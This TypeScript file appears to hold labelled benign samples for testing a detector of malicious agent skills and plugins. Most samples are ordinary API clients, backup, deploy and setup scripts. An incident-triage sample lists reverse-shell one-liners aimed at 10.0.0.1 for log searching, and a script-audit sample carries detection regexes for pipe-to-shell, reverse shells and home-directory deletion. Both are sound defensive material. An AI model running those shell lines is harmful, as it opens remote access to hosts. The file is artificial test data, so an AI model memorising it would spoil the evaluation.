/**
 * Fifth skills batch, development part: benign components of the same themes
 * (API clients sending their own key to their own provider, backups, deploys,
 * security skills quoting attacks, CLIs without telemetry, fetch-heavy
 * TypeScript, a team's own webhook and mail, local cron/hooks, installs from
 * the ecosystems' registries). Written on 2026-11-29 with the malicious
 * samples, before the analyzer was run; split by `thirdOf(id)`.
 */
import { benign, mcpServer, plugin, PY_TAIL, skill, TS_HEAD, TS_TAIL } from '../skills/build.ts';
import { json, type Code5Sample } from './classes.ts';

export const DEV5_BENIGN: Code5Sample[] = [
  benign('b-stripe-key-own-api', 'own-provider', 'a Python script listing Stripe charges with STRIPE_SECRET_KEY', skill('stripe-report', 'Summarise last week of Stripe charges.', `
# Stripe report

Needs \`STRIPE_SECRET_KEY\`. Run \`python3 scripts/report.py\`.
`, {
    'scripts/report.py': `import os
import time

import requests

key = os.environ["STRIPE_SECRET_KEY"]
since = int(time.time()) - 7 * 86400
r = requests.get("https://api.stripe.com/v1/charges", params={"created[gte]": since, "limit": 100}, auth=(key, ""), timeout=20)
r.raise_for_status()
total = sum(c["amount"] for c in r.json()["data"] if c["paid"])
print(f"{len(r.json()['data'])} charges, {total / 100:.2f} total")
`,
  })),
  benign('b-anthropic-sdk-skill', 'own-provider', 'a TypeScript script calling the Messages API with ANTHROPIC_API_KEY', plugin('summarise-pr', 'Summarise a pull request with Claude.', {
    'scripts/summarise.ts': `import { readFileSync } from 'node:fs';

const diff = readFileSync(0, 'utf8');
const res = await fetch('https://api.anthropic.com/v1/messages', {
  method: 'POST',
  headers: {
    'x-api-key': process.env.ANTHROPIC_API_KEY ?? '',
    'anthropic-version': '2023-06-01',
    'content-type': 'application/json',
  },
  body: JSON.stringify({ model: 'claude-sonnet-4-6', max_tokens: 800, messages: [{ role: 'user', content: \`Summarise this diff:\\n\${diff}\` }] }),
});
const j = (await res.json()) as { content: { text: string }[] };
console.log(j.content[0]?.text ?? '');
`,
    'commands/summarise.md': '---\ndescription: Summarise the current diff\n---\n\nRun `git diff main | npx tsx ${CLAUDE_PLUGIN_ROOT}/scripts/summarise.ts`.\n',
  })),
  benign('b-github-api-token', 'own-provider', 'a shell script listing open PRs with GITHUB_TOKEN against the GitHub API', skill('pr-queue', 'Show the review queue of open pull requests.', `
# PR queue

\`\`\`bash
curl -fsSL -H "Authorization: Bearer $GITHUB_TOKEN" -H "Accept: application/vnd.github+json" \\
  "https://api.github.com/repos/$REPO/pulls?state=open&per_page=50" | jq -r '.[] | "#\\(.number) \\(.title) (\\(.user.login))"'
\`\`\`
`)),
  benign('b-sentry-own-dsn', 'own-provider', 'a Node script creating a Sentry release with SENTRY_AUTH_TOKEN', skill('sentry-release', 'Create a Sentry release for the current commit.', `
# Sentry release

Run \`node scripts/release.mjs\`.
`, {
    'scripts/release.mjs': `import { execSync } from 'node:child_process';

const version = execSync('git rev-parse --short HEAD', { encoding: 'utf8' }).trim();
const org = process.env.SENTRY_ORG;
const res = await fetch(\`https://sentry.io/api/0/organizations/\${org}/releases/\`, {
  method: 'POST',
  headers: { Authorization: \`Bearer \${process.env.SENTRY_AUTH_TOKEN}\`, 'Content-Type': 'application/json' },
  body: JSON.stringify({ version, projects: [process.env.SENTRY_PROJECT] }),
});
console.log(res.status, version);
`,
  })),
  benign('b-backup-restic', 'backup', 'restic backup of the home folder to the user’s own repository', skill('restic-backup', 'Back up your home folder with restic.', `
# Restic backup

\`\`\`bash
export RESTIC_REPOSITORY="sftp:backup@nas.local:/srv/restic"
export RESTIC_PASSWORD_FILE="$HOME/.config/restic/password"
restic backup "$HOME" --exclude-caches --exclude "$HOME/.cache" --exclude "$HOME/Downloads"
restic forget --keep-daily 7 --keep-weekly 4 --prune
restic snapshots --compact
\`\`\`
`)),
  benign('b-pg-dump-s3', 'backup', 'pg_dump piped to gzip and aws s3 cp to the team bucket', skill('db-backup', 'Back up the production database to S3.', `
# DB backup

Run \`bash scripts/backup.sh\`.
`, {
    'scripts/backup.sh': `#!/usr/bin/env bash
set -euo pipefail
stamp=$(date +%Y%m%d-%H%M)
pg_dump --no-owner "$DATABASE_URL" | gzip > "/tmp/db-$stamp.sql.gz"
aws s3 cp "/tmp/db-$stamp.sql.gz" "s3://$BACKUP_BUCKET/postgres/db-$stamp.sql.gz" --sse AES256
rm -f "/tmp/db-$stamp.sql.gz"
echo "backup db-$stamp done"
`,
  })),
  benign('b-deploy-fly', 'deploy', 'flyctl deploy with secrets set from a local .env', skill('fly-deploy', 'Deploy the app to Fly.io.', `
# Fly deploy

\`\`\`bash
flyctl secrets import < .env.production
flyctl deploy --remote-only --strategy rolling
flyctl status
\`\`\`
`)),
  benign('b-deploy-rsync-server', 'deploy', 'rsync of the build folder to the team’s server over SSH, then a restart', skill('static-deploy', 'Deploy the static site to the web server.', `
# Static deploy

\`\`\`bash
npm run build
rsync -avz --delete -e "ssh -i ~/.ssh/deploy_ed25519" dist/ deploy@www.example.org:/var/www/site/
ssh -i ~/.ssh/deploy_ed25519 deploy@www.example.org 'sudo systemctl reload nginx'
\`\`\`
`)),
  benign('b-deploy-vercel-env', 'deploy', 'a script adding env vars to Vercel with the Vercel CLI', plugin('vercel-env', 'Push .env.production values to Vercel.', {
    'scripts/push-env.sh': `#!/usr/bin/env bash
set -e
while IFS='=' read -r key value; do
  [ -z "$key" ] || [ "\${key:0:1}" = "#" ] && continue
  printf '%s' "$value" | vercel env add "$key" production --force
done < .env.production
vercel deploy --prod
`,
    'commands/vercel-env.md': '---\ndescription: Push env vars to Vercel\n---\n\nRun `bash ${CLAUDE_PLUGIN_ROOT}/scripts/push-env.sh` after confirming with the user.\n',
  })),
  benign('b-security-skill-rev-shells', 'security-docs', 'a security skill listing reverse-shell one-liners to look for in logs', skill('ir-triage', 'Triage a suspected compromise of a Linux host.', `
# Incident triage

Look in shell histories and process lists for reverse shells. Typical
patterns to search for (do not run them):

| pattern | example |
| --- | --- |
| bash /dev/tcp | \`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\` |
| netcat -e | \`nc -e /bin/sh 10.0.0.1 4444\` |
| fifo | \`mkfifo /tmp/f; sh -i < /tmp/f | nc 10.0.0.1 4444 > /tmp/f\` |

\`\`\`bash
grep -E '/dev/tcp/|nc (-e|-c)|mkfifo' ~/.bash_history /root/.bash_history 2>/dev/null
ps -eo pid,cmd | grep -E 'sh -i|/dev/tcp' | grep -v grep
\`\`\`
`, {}, 'Read, Grep, Bash')),
  benign('b-security-scanner-patterns', 'security-docs', 'a Python scanner whose rule table quotes curl|sh and base64 exec patterns', skill('script-audit', 'Flag risky lines in shell and Python scripts of a repository.', `
# Script audit

Run \`python3 scripts/audit.py .\` and report each hit with its file and line.
`, {
    'scripts/audit.py': `import re
import sys
from pathlib import Path

RULES = [
    ("pipe to shell", re.compile(r"(curl|wget)[^|]*\\|\\s*(ba)?sh")),
    ("decoded exec", re.compile(r"exec\\((base64|codecs)\\.")),
    ("reverse shell", re.compile(r"/dev/tcp/|nc\\s+-e")),
    ("home delete", re.compile(r"rm\\s+-rf\\s+(~|\\$HOME)")),
]

for p in Path(sys.argv[1]).rglob("*"):
    if p.suffix not in {".sh", ".py"} or not p.is_file():
        continue
    for i, line in enumerate(p.read_text(errors="ignore").splitlines(), 1):
        for name, rx in RULES:
            if rx.search(line):
                print(f"{p}:{i}: {name}")
`,
  })),
  benign('b-security-audit-ssh-perms', 'security-docs', 'a script checking permissions of ~/.ssh and ~/.aws files without reading them', skill('secrets-perms', 'Check that credential files are not readable by others.', `
# Secrets permissions

\`\`\`bash
for f in ~/.ssh/id_* ~/.aws/credentials ~/.netrc ~/.pgpass; do
  [ -e "$f" ] || continue
  mode=$(stat -c %a "$f")
  case "$mode" in 600|400) echo "ok   $f ($mode)";; *) echo "WARN $f ($mode): run chmod 600 $f";; esac
done
\`\`\`
`)),
  benign('b-cli-no-telemetry', 'cli', 'a Node CLI that reads package.json files and prints outdated engines', plugin('engines-check', 'Check engines fields across a monorepo.', {
    'scripts/engines.mjs': `import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';

function* packages(dir) {
  for (const name of readdirSync(dir)) {
    if (name === 'node_modules' || name.startsWith('.')) continue;
    const p = join(dir, name);
    if (statSync(p).isDirectory()) yield* packages(p);
    else if (name === 'package.json') yield p;
  }
}

for (const p of packages(process.argv[2] ?? '.')) {
  const pkg = JSON.parse(readFileSync(p, 'utf8'));
  if (!pkg.engines?.node) console.log(\`\${p}: no engines.node\`);
}
`,
    'commands/engines.md': '---\ndescription: Check engines fields\n---\n\nRun `node ${CLAUDE_PLUGIN_ROOT}/scripts/engines.mjs` and list the packages to fix.\n',
  })),
  benign('b-ts-fetch-heavy-client', 'fetch-heavy', 'a TypeScript client paging through the GitLab API with retries and its own token', plugin('gitlab-issues', 'List and triage GitLab issues.', {
    'scripts/issues.ts': `const base = process.env.GITLAB_URL ?? 'https://gitlab.com';
const token = process.env.GITLAB_TOKEN ?? '';

async function get<T>(path: string, tries = 3): Promise<T> {
  for (let i = 0; ; i++) {
    const r = await fetch(\`\${base}/api/v4\${path}\`, { headers: { 'PRIVATE-TOKEN': token } });
    if (r.ok) return (await r.json()) as T;
    if (i + 1 >= tries || r.status < 500) throw new Error(\`\${r.status} \${path}\`);
    await new Promise((res) => setTimeout(res, 500 * 2 ** i));
  }
}

const project = encodeURIComponent(process.argv[2] ?? '');
for (let page = 1; ; page++) {
  const issues = await get<{ iid: number; title: string; labels: string[] }[]>(\`/projects/\${project}/issues?state=opened&page=\${page}&per_page=100\`);
  if (!issues.length) break;
  for (const i of issues) console.log(\`#\${i.iid} \${i.title} [\${i.labels.join(', ')}]\`);
}
`,
    'commands/issues.md': '---\ndescription: List open GitLab issues\n---\n\nRun `npx tsx ${CLAUDE_PLUGIN_ROOT}/scripts/issues.ts <group/project>`.\n',
  })),
  benign('b-ts-mcp-weather-fetch', 'fetch-heavy', 'a TypeScript MCP server calling a weather API with its own key', mcpServer('weather', 'Current weather and forecasts.', 'ts', `${TS_HEAD}
const server = new McpServer({ name: 'weather', version: '1.0.0' });
const KEY = process.env.OPENWEATHER_API_KEY ?? '';

server.tool('current', { city: z.string() }, async ({ city }) => {
  const url = new URL('https://api.openweathermap.org/data/2.5/weather');
  url.searchParams.set('q', city);
  url.searchParams.set('appid', KEY);
  url.searchParams.set('units', 'metric');
  const r = await fetch(url);
  if (!r.ok) return { content: [{ type: 'text', text: \`error \${r.status}\` }], isError: true };
  const j = (await r.json()) as { main: { temp: number }; weather: { description: string }[] };
  return { content: [{ type: 'text', text: \`\${j.main.temp}°C, \${j.weather[0]?.description}\` }] };
});
${TS_TAIL}`)),
  benign('b-py-mcp-notion', 'fetch-heavy', 'a FastMCP server searching Notion with NOTION_TOKEN', mcpServer('notion-search', 'Search pages of your Notion workspace.', 'py', `import os

import httpx
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("notion-search")
HEADERS = {
    "Authorization": f"Bearer {os.environ['NOTION_TOKEN']}",
    "Notion-Version": "2022-06-28",
}


@mcp.tool()
async def search(query: str) -> str:
    """Search Notion pages by title."""
    async with httpx.AsyncClient(timeout=20) as c:
        r = await c.post("https://api.notion.com/v1/search", headers=HEADERS, json={"query": query, "page_size": 10})
        r.raise_for_status()
    return "\\n".join(p["url"] for p in r.json()["results"])
${PY_TAIL}`)),
  benign('b-slack-notify-own-webhook', 'own-channel', 'a hook posting "session finished" with the project name to the team’s Slack webhook from env', plugin('slack-notify', 'Tell the team channel when a long session finishes.', {
    'hooks/hooks.json': json({ hooks: { Stop: [{ hooks: [{ type: 'command', command: 'bash ${CLAUDE_PLUGIN_ROOT}/hooks/notify.sh' }] }] } }),
    'hooks/notify.sh': `#!/usr/bin/env bash
[ -n "$SLACK_WEBHOOK_URL" ] || exit 0
project=$(basename "$PWD")
curl -s -m 5 -X POST -H 'Content-type: application/json' \\
  --data "{\\"text\\":\\"Claude session finished in $project\\"}" "$SLACK_WEBHOOK_URL" >/dev/null
`,
  })),
  benign('b-dns-lookup-tool', 'cli', 'a Node MCP server resolving records of a domain the user gives', mcpServer('dns-lookup', 'Resolve DNS records of a domain.', 'ts', `${TS_HEAD}import { promises as dns } from 'node:dns';

const server = new McpServer({ name: 'dns-lookup', version: '0.2.0' });

server.tool('resolve', { domain: z.string(), type: z.enum(['A', 'AAAA', 'MX', 'TXT', 'NS']) }, async ({ domain, type }) => {
  const records = await dns.resolve(domain, type);
  return { content: [{ type: 'text', text: JSON.stringify(records, null, 2) }] };
});
${TS_TAIL}`)),
  benign('b-git-push-release', 'deploy', 'a release script tagging and pushing to origin', skill('release', 'Tag and push a release.', `
# Release

\`\`\`bash
version=$(node -p 'require("./package.json").version')
git tag -a "v$version" -m "v$version"
git push origin main "v$version"
gh release create "v$version" --generate-notes
\`\`\`
`)),
  benign('b-cron-own-job', 'local-setup', 'a crontab line running the project’s own cleanup script nightly', skill('nightly-clean', 'Clean old build artifacts every night.', `
# Nightly clean

\`\`\`bash
(crontab -l 2>/dev/null; echo "0 3 * * * cd $PWD && npm run clean >> $HOME/.cache/nightly-clean.log 2>&1") | crontab -
crontab -l | tail -1
\`\`\`
`)),
  benign('b-git-hooks-repo', 'local-setup', 'a pre-commit hook written into .git/hooks that runs the project’s lint', skill('pre-commit-lint', 'Lint staged files before each commit.', `
# Pre-commit lint

\`\`\`bash
cat > .git/hooks/pre-commit <<'HOOK'
#!/bin/sh
npx lint-staged
HOOK
chmod +x .git/hooks/pre-commit
\`\`\`
`)),
  benign('b-cleanup-node-modules', 'local-setup', 'find removing node_modules folders under the projects folder', skill('reclaim-space', 'Reclaim disk space from old node_modules folders.', `
# Reclaim space

\`\`\`bash
find ~/projects -name node_modules -type d -prune -mtime +30 -print
find ~/projects -name node_modules -type d -prune -mtime +30 -exec rm -rf {} +
du -sh ~/projects
\`\`\`
`)),
  benign('b-js-dynamic-import-plugins', 'cli', 'a Node CLI importing plugins from a local plugins folder', plugin('report-kit', 'Build reports from local plugins.', {
    'scripts/run.mjs': `import { readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';

const dir = resolve(process.argv[2] ?? 'report-plugins');
for (const f of readdirSync(dir).filter((n) => n.endsWith('.mjs'))) {
  const mod = await import(pathToFileURL(join(dir, f)).href);
  console.log(\`## \${mod.title ?? f}\\n\\n\${await mod.default()}\\n\`);
}
`,
    'commands/report.md': '---\ndescription: Build the report\n---\n\nRun `node ${CLAUDE_PLUGIN_ROOT}/scripts/run.mjs`.\n',
  })),
  benign('b-pip-requirements-pinned', 'registry-install', 'pip install -r of pinned requirements with hashes', skill('py-env', 'Create the Python environment of the project.', `
# Python env

\`\`\`bash
python3 -m venv .venv
. .venv/bin/activate
pip install --require-hashes -r requirements.lock
pip install -e .
pytest -q
\`\`\`
`)),
  benign('b-npm-scoped-own-registry', 'registry-install', 'an .npmrc scope for the company’s own packages at its own domain', skill('acme-packages', 'Use Acme’s internal npm packages.', `
# Acme packages

\`\`\`bash
npm config set @acme:registry https://npm.acme-corp.com/
npm login --scope=@acme --registry=https://npm.acme-corp.com/
npm install @acme/ui @acme/config
\`\`\`
`)),
  benign('b-smtp-own-report', 'own-channel', 'a Python script mailing a test report to the team address through the company SMTP', skill('test-report-mail', 'Mail the nightly test report to the team.', `
# Test report mail

Run \`python3 scripts/mail.py junit.xml\`.
`, {
    'scripts/mail.py': `import os
import smtplib
import sys
import xml.etree.ElementTree as ET
from email.message import EmailMessage

suite = ET.parse(sys.argv[1]).getroot()
msg = EmailMessage()
msg["Subject"] = f"tests: {suite.get('failures')} failures of {suite.get('tests')}"
msg["From"] = "ci@example.org"
msg["To"] = os.environ.get("REPORT_TO", "dev-team@example.org")
msg.set_content(open(sys.argv[1]).read())
with smtplib.SMTP(os.environ.get("SMTP_HOST", "smtp.example.org"), 587) as s:
    s.starttls()
    s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
    s.send_message(msg)
`,
  })),
  benign('b-env-check-required', 'cli', 'a script checking that required env vars are set, printing names only', skill('env-check', 'Check the environment variables the app needs.', `
# Env check

\`\`\`bash
for v in DATABASE_URL REDIS_URL STRIPE_SECRET_KEY SENTRY_DSN; do
  if [ -z "\${!v}" ]; then echo "missing $v"; else echo "ok      $v"; fi
done
grep -oE '^[A-Z_]+=' .env.example | tr -d '=' | sort > /tmp/expected
env | grep -oE '^[A-Z_]+=' | tr -d '=' | sort | comm -23 /tmp/expected - 
\`\`\`
`)),
  benign('b-docker-compose-up', 'deploy', 'docker compose pulling images and starting the stack', skill('dev-stack', 'Start the local development stack.', `
# Dev stack

\`\`\`bash
docker compose pull
docker compose up -d --wait
docker compose ps
docker compose logs --tail 20 api
\`\`\`
`)),
];
